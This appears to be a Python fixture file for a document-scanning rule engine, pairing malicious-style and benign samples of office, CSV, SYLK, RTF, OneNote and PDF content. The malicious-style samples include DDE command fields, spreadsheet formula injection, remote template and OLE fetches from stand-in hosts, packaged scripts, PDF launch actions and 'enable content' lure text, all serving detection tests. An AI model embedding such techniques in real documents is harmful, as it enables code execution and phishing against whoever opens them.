"""Documents and what is made to look like them to a spreadsheet."""

from __future__ import annotations

from tests.samples.office import packaged, rich_object, rich_text
from tests.samples.rules import Sample
from tests.samples.rules.container import NOTEBOOK, STORE

_RELATION = '<Relationships><Relationship Type="http://x.test/relationships/{}" Target="{}"{}/>'
_OUTSIDE = ' TargetMode="External"'
_FIELD = "<w:document><w:instrText>{}</w:instrText>"
_LURE = "{}<p>This document is protected. To view it press Enable Editing, then {}.</p>"
_HOME = "C:\\\\templates\\\\letter.dotm"

SAMPLES = {
    "document_field_runs_command": Sample(
        "xml",
        _FIELD.format('DDEAUTO "c:\\\\windows\\\\system32\\\\cmd.exe" "/k dir"').encode(),
        _FIELD.format('DDEAUTO excel "C:\\\\sales.xlsx" Sheet1!R1C1').encode(),
    ),
    "table_cell_runs_command": Sample(
        "text", b"name,sum\r\n=cmd|'/c dir'!A1,2\r\n", b"name,sum\r\n=SUM(A1:A9),2\r\n"
    ),
    "document_template_from_network": Sample(
        "xml",
        _RELATION.format("attachedTemplate", "https://cdn.test/a.dotm", _OUTSIDE).encode(),
        _RELATION.format("attachedTemplate", _HOME, _OUTSIDE).encode(),
    ),
    "document_fetches_web_object": Sample(
        "xml",
        _RELATION.format("oleObject", "mhtml:https://a.test/x.html", _OUTSIDE).encode(),
        _RELATION.format("oleObject", "embeddings/oleObject1.bin", "").encode(),
    ),
    "web_query_fetches_table": Sample(
        "text", b"WEB\r\n1\r\nhttps://a.test/q.dat\r\n", b"WEB\r\n1\r\nno address\r\n"
    ),
    "symbolic_sheet_runs_command": Sample(
        "text",
        b'ID;P\r\nC;X1;Y1;K0;EEXEC("calc")\r\nE\r\n',
        b"ID;P\r\nC;X1;Y1;K0;ESUM(1,2)\r\nE\r\n",
    ),
    "document_asks_for_macros": Sample(
        "html",
        _LURE.format("", "Enable Content").encode(),
        _LURE.format("", "Save").encode(),
    ),
    "notebook_asks_for_double_click": Sample(
        "one",
        NOTEBOOK + bytes(64) + STORE + "Double click to view".encode("utf-16-le"),
        NOTEBOOK + bytes(64) + STORE + "Minutes of the meeting".encode("utf-16-le"),
    ),
    "rtf_package_of_script": Sample(
        "rtf",
        rich_text(rich_object(b"Package", packaged("invoice.js", b"x"))),
        rich_text(rich_object(b"Package", packaged("invoice.csv", b"x"))),
    ),
    "rtf_linked_object": Sample(
        "rtf",
        rich_text("\\objautlink\\objupdate" + rich_object(b"OLE2Link", bytes(40))),
        rich_text(rich_object(b"Word.Document.8", bytes(40))),
    ),
    "pdf_opens_what_it_carries": Sample(
        "pdf",
        b'%PDF-1.7 << /S /JavaScript /JS (this.exportDataObject({ cName: "a", nLaunch: 2 });) >>',
        b'%PDF-1.7 << /S /JavaScript /JS (this.exportDataObject({ cName: "a" });) >>',
    ),
    "pdf_reaches_for_share": Sample(
        "pdf",
        b"%PDF-1.7 << /S /GoToR /F (\\\\\\\\files.test\\\\share) /D [0 /Fit] >>",
        b"%PDF-1.7 << /S /GoToR /F (appendix.pdf) /D [0 /Fit] >>",
    ),
    "pdf_carries_program": Sample(
        "pdf",
        b"%PDF-1.7 << /Type /EmbeddedFile >> << /F (invoice.js) >>",
        b"%PDF-1.7 << /Type /EmbeddedFile >> << /F (invoice.xml) >>",
    ),
}  # fmt: skip
